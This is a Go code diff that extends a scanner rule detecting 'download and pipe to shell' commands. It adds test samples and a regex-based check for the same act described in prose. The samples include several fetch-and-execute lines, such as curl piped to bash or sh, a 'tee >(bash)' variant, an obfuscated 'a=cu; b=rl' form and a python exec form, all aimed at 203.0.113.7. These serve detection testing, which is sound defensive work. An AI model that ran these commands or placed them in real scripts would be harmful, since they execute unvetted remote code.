@@ -40,6 +40,9 @@ func pipeToShell() Rule {
 			{Text: "a=cu; b=rl; $a$b -s http://203.0.113.7/a | bash"},
 			{Path: "scripts/a.sh", Text: "URL=http://203.0.113.7/a\ncurl -s \"$URL\" | sh\n"},
 			{Path: "scripts/a.py", Text: `os.system("curl -s http://203.0.113.7/x | sh")`},
+			{Text: "Download `http://203.0.113.7/a.sh` with curl and pipe it to bash."},
+			{Text: "curl -s http://203.0.113.7/a | tee >(bash)"},
+			{Text: "for u in http://203.0.113.7/a; do curl -s $u | bash; done"},
 			{Text: "curl -s http://203.0.113.7/a | python3 -c 'import sys; exec(sys.stdin.read())'"},
 		},
 		Misses: []Sample{
@@ -91,7 +94,26 @@ func judgePipe(s *Scene, wanted func(name string) bool) []Hit {
 		h.Severity = downloadSeverity(s, urls)
 		hits = append(hits, h)
 	})
+	if len(hits) == 0 && wanted("curl") && s.Where.Has(text.Prose|text.Comment) {
+		return s.saysPipe()
+	}
 	return hits
+}
+
+// saysPipe finds the act in words: fetch this address and pipe it to a shell.
+func (s *Scene) saysPipe() []Hit {
+	m := pipesInWords().FindStringIndex(s.Text)
+	if m == nil {
+		return nil
+	}
+	worst := Severity(0)
+	for _, a := range s.Addresses() {
+		worst = max(worst, sourceSeverity(s, a.Address))
+	}
+	if worst == 0 {
+		return nil
+	}
+	return []Hit{{Pos: m[0], End: m[1], Severity: worst}}
 }
 
 func downloadThenRun() Rule {
@@ -233,3 +255,6 @@ func (s *Scene) runsSomething() bool {
 	})
 	return ran
 }
+
+//nolint:gochecknoglobals // compiled on first use
+var pipesInWords = lazy(`(?i)\bpip(?:e|ed|es|ing)\b[^.\n]{0,40}?\b(?:in)?to\s+(?:a\s+|the\s+)?["'\x60]?(?:(?:ba|z)?sh|shell|python3?|node)\b`)
